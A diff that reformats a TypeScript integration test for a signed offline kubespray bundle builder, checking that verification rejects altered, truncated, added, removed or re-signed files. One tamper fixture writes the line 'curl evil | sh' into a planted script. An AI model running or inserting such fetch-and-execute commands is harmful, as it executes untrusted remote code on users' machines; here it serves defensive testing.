@@ -11,16 +11,29 @@ import { BundleManifestSchema, type BundleManifest } from '../../../../electron/
 import { openBundleFile } from '../../../../electron/node/bundles/bundle-parts';
 import { generateSigningKey } from '../../../../electron/node/bundles/bundle-signing';
 import { buildBundle, type BuildProgress } from '../../../../electron/node/bundles/build/build-bundle';
-import { bundlePathForUrl, parseFilesList, parseImagesList } from '../../../../electron/node/bundles/build/kubespray-lists';
+import {
+  bundlePathForUrl,
+  parseFilesList,
+  parseImagesList,
+} from '../../../../electron/node/bundles/build/kubespray-lists';
 import type { TrustedKey } from '../../../../electron/node/bundles/trusted-publishers';
 import { verifyBundle } from '../../../../electron/node/bundles/verify-bundle';
 import { writeSignedManifest } from '../../../../electron/node/bundles/write-manifest';
-import { freePort, pushTestImage, startDockerRegistry, startTestFileServer, type RunningRegistry, type TestFileServer } from '../../../support/bundle-lab';
+import {
+  freePort,
+  pushTestImage,
+  startDockerRegistry,
+  startTestFileServer,
+  type RunningRegistry,
+  type TestFileServer,
+} from '../../../support/bundle-lab';
 import { kubesprayListsFixtures as fixtures } from '../../../support/kubespray-release-path';
 
 const run = promisify(execFile);
 const publisher = generateSigningKey();
-const trusted: TrustedKey[] = [{ name: 'Build test', publicKey: publisher.publicKey, fingerprint: publisher.fingerprint, source: 'option' }];
+const trusted: TrustedKey[] = [
+  { name: 'Build test', publicKey: publisher.publicKey, fingerprint: publisher.fingerprint, source: 'option' },
+];
 
 let work: string;
 let sourceRegistry: RunningRegistry;
@@ -33,7 +46,11 @@ let pushedIndexDigest: string;
 
 // Real entries from kubespray's own lists; the bytes behind them are made here and served on loopback.
 const chosenFiles = ['/kubeadm', '/kubectl', 'cni-plugins-linux-amd64', 'calicoctl-linux-amd64'];
-const chosenImages = ['quay.io/calico/node:v3.25.2', 'quay.io/coreos/etcd:v3.5.10', 'docker.io/flannel/flannel:v0.22.0'];
+const chosenImages = [
+  'quay.io/calico/node:v3.25.2',
+  'quay.io/coreos/etcd:v3.5.10',
+  'docker.io/flannel/flannel:v0.22.0',
+];
 
 beforeAll(async () => {
   work = await mkdtemp(join(tmpdir(), 'airspray-build-'));
@@ -54,7 +71,10 @@ beforeAll(async () => {
     await writeFile(path, content);
   }
   fileServer = await startTestFileServer(webRoot, new Set([`/${files[0]!.host}${files[0]!.pathname}`]));
-  sourceRegistry = await startDockerRegistry(join(work, 'source-registry'), { readOnly: false, configDir: join(work, 'config') });
+  sourceRegistry = await startDockerRegistry(join(work, 'source-registry'), {
+    readOnly: false,
+    configDir: join(work, 'config'),
+  });
   pushedIndexDigest = await pushTestImage(sourceRegistry.url, 'calico/node', 'v3.25.2', ['amd64', 'arm64']);
   await pushTestImage(sourceRegistry.url, 'coreos/etcd', 'v3.5.10', ['amd64'], 'docker');
   await pushTestImage(sourceRegistry.url, 'flannel/flannel', 'v0.22.0', ['amd64']);
@@ -62,7 +82,10 @@ beforeAll(async () => {
   const kubesprayDir = join(work, 'kubespray-release');
   await mkdir(join(kubesprayDir, 'inventory', 'sample'), { recursive: true });
   await writeFile(join(kubesprayDir, 'cluster.yml'), '- import_playbook: playbooks/cluster.yml\n');
-  await writeFile(join(kubesprayDir, 'inventory', 'sample', 'inventory.ini'), '[kube_control_plane]\nnode1 ansible_host=10.0.0.11\n');
+  await writeFile(
+    join(kubesprayDir, 'inventory', 'sample', 'inventory.ini'),
+    '[kube_control_plane]\nnode1 ansible_host=10.0.0.11\n',
+  );
 
   bundleDir = join(work, 'bundle');
   const options = {
@@ -80,7 +103,9 @@ beforeAll(async () => {
       ['quay.io', sourceRegistry.url],
       ['docker.io', sourceRegistry.url],
     ]),
-    steps: [{ name: 'kubespray', run: async (dir: string) => cp(kubesprayDir, join(dir, 'kubespray'), { recursive: true }) }],
+    steps: [
+      { name: 'kubespray', run: async (dir: string) => cp(kubesprayDir, join(dir, 'kubespray'), { recursive: true }) },
+    ],
     privateKeyPem: publisher.privateKeyPem,
     partBytes: 150_000,
   };
@@ -122,8 +147,16 @@ describe('bundle builder against a loopback file server and docker-registry', ()
       expect(entry.path).toBe(bundlePathForUrl(new URL(url)));
       expect(entry.parts?.length).toBe(2);
     }
-    const variables = manifest.files.map((file) => file.kubesprayVariable).filter(Boolean).sort();
-    expect(variables).toEqual(['calicoctl_download_url', 'cni_download_url', 'kubeadm_download_url', 'kubectl_download_url']);
+    const variables = manifest.files
+      .map((file) => file.kubesprayVariable)
+      .filter(Boolean)
+      .sort();
+    expect(variables).toEqual([
+      'calicoctl_download_url',
+      'cni_download_url',
+      'kubeadm_download_url',
+      'kubectl_download_url',
+    ]);
     expect(manifest.files.some((file) => file.path === 'kubespray/inventory/sample/inventory.ini')).toBe(true);
     expect(await readdir(bundleDir)).not.toContain('.airspray-build');
     expect(manifest.networkPlugins).toEqual(['calico', 'flannel']);
@@ -131,8 +164,15 @@ describe('bundle builder against a loopback file server and docker-registry', ()
 
   it('records every image with its digest and platforms, keeping a multi-platform index as pushed', () => {
     const calico = manifest.images.find((image) => image.repository === 'calico/node')!;
-    expect(calico).toMatchObject({ digest: pushedIndexDigest, mediaType: 'application/vnd.oci.image.index.v1+json', platforms: ['linux/amd64'], tag: 'v3.25.2' });
-    expect(manifest.images.find((image) => image.repository === 'coreos/etcd')?.mediaType).toBe('application/vnd.docker.distribution.manifest.v2+json');
+    expect(calico).toMatchObject({
+      digest: pushedIndexDigest,
+      mediaType: 'application/vnd.oci.image.index.v1+json',
+      platforms: ['linux/amd64'],
+      tag: 'v3.25.2',
+    });
+    expect(manifest.images.find((image) => image.repository === 'coreos/etcd')?.mediaType).toBe(
+      'application/vnd.docker.distribution.manifest.v2+json',
+    );
     expect(manifest.images).toHaveLength(3);
   });
 
@@ -143,31 +183,46 @@ describe('bundle builder against a loopback file server and docker-registry', ()
   });
 
   it.each([
-    ['a flipped byte in an image layer', async (dir: string) => {
-      const blob = manifest.files.find((file) => file.path.includes('/blobs/') && file.size > 1000)!;
-      const bytes = await readFile(join(dir, blob.path));
-      bytes[500] = bytes[500]! ^ 0x01;
-      await writeFile(join(dir, blob.path), bytes);
-      return { path: blob.path, reason: 'altered' };
-    }],
-    ['a truncated download part', async (dir: string) => {
-      const part = manifest.files.find((file) => file.parts)!.parts![1]!;
-      await truncate(join(dir, part.path), part.size - 1);
-      return { path: part.path, reason: 'truncated' };
-    }],
-    ['an added file', async (dir: string) => {
-      await appendFile(join(dir, 'files', 'planted.sh'), 'curl evil | sh\n');
-      return { path: 'files/planted.sh', reason: 'extra' };
-    }],
-    ['a removed tag link', async (dir: string) => {
-      const link = manifest.files.find((file) => file.path.endsWith('/_manifests/tags/v3.25.2/current/link'))!;
-      await rm(join(dir, link.path));
-      return { path: link.path, reason: 'missing' };
-    }],
-    ['a re-signature with an unknown key', async (dir: string) => {
-      await writeSignedManifest(dir, manifest, generateSigningKey().privateKeyPem);
-      return { path: 'manifest.json.sig', reason: 'unknown-publisher' };
-    }],
+    [
+      'a flipped byte in an image layer',
+      async (dir: string) => {
+        const blob = manifest.files.find((file) => file.path.includes('/blobs/') && file.size > 1000)!;
+        const bytes = await readFile(join(dir, blob.path));
+        bytes[500] = bytes[500]! ^ 0x01;
+        await writeFile(join(dir, blob.path), bytes);
+        return { path: blob.path, reason: 'altered' };
+      },
+    ],
+    [
+      'a truncated download part',
+      async (dir: string) => {
+        const part = manifest.files.find((file) => file.parts)!.parts![1]!;
+        await truncate(join(dir, part.path), part.size - 1);
+        return { path: part.path, reason: 'truncated' };
+      },
+    ],
+    [
+      'an added file',
+      async (dir: string) => {
+        await appendFile(join(dir, 'files', 'planted.sh'), 'curl evil | sh\n');
+        return { path: 'files/planted.sh', reason: 'extra' };
+      },
+    ],
+    [
+      'a removed tag link',
+      async (dir: string) => {
+        const link = manifest.files.find((file) => file.path.endsWith('/_manifests/tags/v3.25.2/current/link'))!;
+        await rm(join(dir, link.path));
+        return { path: link.path, reason: 'missing' };
+      },
+    ],
+    [
+      'a re-signature with an unknown key',
+      async (dir: string) => {
+        await writeSignedManifest(dir, manifest, generateSigningKey().privateKeyPem);
+        return { path: 'manifest.json.sig', reason: 'unknown-publisher' };
+      },
+    ],
   ])('refuses %s, naming the file', async (_name, tamper) => {
     const copy = await mkdtemp(join(work, 'tampered-'));
     await cp(bundleDir, copy, { recursive: true });
@@ -178,25 +233,54 @@ describe('bundle builder against a loopback file server and docker-registry', ()
   });
 
   it('serves images/ with a second, read-only docker-registry that skopeo pulls from, and files/ by their original URL paths', async () => {
-    const bundleRegistry = await startDockerRegistry(join(bundleDir, 'images'), { readOnly: true, configDir: join(work, 'config') });
+    const bundleRegistry = await startDockerRegistry(join(bundleDir, 'images'), {
+      readOnly: true,
+      configDir: join(work, 'config'),
+    });
     await mkdir(join(work, 'pulled'), { recursive: true });
-    const python = spawn('python3', ['-u', '-m', 'http.server', String(await freePort()), '--bind', '127.0.0.1', '--directory', join(bundleDir, 'files')], { stdio: ['ignore', 'pipe', 'pipe'] });
+    const python = spawn(
+      'python3',
+      [
+        '-u',
+        '-m',
+        'http.server',
+        String(await freePort()),
+        '--bind',
+        '127.0.0.1',
+        '--directory',
+        join(bundleDir, 'files'),
+      ],
+      { stdio: ['ignore', 'pipe', 'pipe'] },
+    );
     try {
       for (const image of manifest.images) {
         const destination = join(work, 'pulled', image.repository.replace('/', '-'));
-        await run('skopeo', ['copy', '--src-tls-verify=false', `docker://127.0.0.1:${bundleRegistry.port}/${image.repository}:${image.tag}`, `dir:${destination}`]);
+        await run('skopeo', [
+          'copy',
+          '--src-tls-verify=false',
+          `docker://127.0.0.1:${bundleRegistry.port}/${image.repository}:${image.tag}`,
+          `dir:${destination}`,
+        ]);
         const pulled = JSON.parse(await readFile(join(destination, 'manifest.json'), 'utf8')) as { layers: unknown[] };
         expect(pulled.layers).toHaveLength(2);
       }
       const calico = manifest.images.find((image) => image.repository === 'calico/node')!;
-      const response = await fetch(`${bundleRegistry.url}/v2/calico/node/manifests/v3.25.2`, { headers: { accept: calico.mediaType } });
+      const response = await fetch(`${bundleRegistry.url}/v2/calico/node/manifests/v3.25.2`, {
+        headers: { accept: calico.mediaType },
+      });
       expect(response.headers.get('docker-content-digest')).toBe(calico.digest);
-      const layerLink = manifest.files.find((file) => /\/repositories\/calico\/node\/_layers\/sha256\/[0-9a-f]{64}\/link$/.test(file.path))!;
+      const layerLink = manifest.files.find((file) =>
+        /\/repositories\/calico\/node\/_layers\/sha256\/[0-9a-f]{64}\/link$/.test(file.path),
+      )!;
       const digest = `sha256:${layerLink.path.split('/').at(-2)}`;
-      const blob = Buffer.from(await (await fetch(`${bundleRegistry.url}/v2/calico/node/blobs/${digest}`)).arrayBuffer());
+      const blob = Buffer.from(
+        await (await fetch(`${bundleRegistry.url}/v2/calico/node/blobs/${digest}`)).arrayBuffer(),
+      );
       expect(`sha256:${createSha(blob)}`).toBe(digest);
       // Read-only: a push is refused, so the bundle stays as signed.
-      expect((await fetch(`${bundleRegistry.url}/v2/calico/node/blobs/uploads/`, { method: 'POST' })).status).not.toBe(202);
+      expect((await fetch(`${bundleRegistry.url}/v2/calico/node/blobs/uploads/`, { method: 'POST' })).status).not.toBe(
+        202,
+      );
 
       // A static file server on files/ answers kubespray's own URL path (only files_repo changes).
       const port = await waitForPythonPort(python);
@@ -204,8 +288,13 @@ describe('bundle builder against a loopback file server and docker-registry', ()
       const fileUrl = new URL(url);
       const entry = manifest.files.find((file) => file.url === url)!;
       // Parts are joined when the bundle is copied to the deploy node; the server then serves the whole file.
-      await pipeline(openBundleFile(bundleDir, entry), createWriteStream(join(bundleDir, 'files', fileUrl.host, fileUrl.pathname)));
-      const served = Buffer.from(await (await fetch(`http://127.0.0.1:${port}/${fileUrl.host}${fileUrl.pathname}`)).arrayBuffer());
+      await pipeline(
+        openBundleFile(bundleDir, entry),
+        createWriteStream(join(bundleDir, 'files', fileUrl.host, fileUrl.pathname)),
+      );
+      const served = Buffer.from(
+        await (await fetch(`http://127.0.0.1:${port}/${fileUrl.host}${fileUrl.pathname}`)).arrayBuffer(),
+      );
       expect(served.equals(content)).toBe(true);
       await rm(join(bundleDir, 'files', fileUrl.host, fileUrl.pathname));
     } finally {
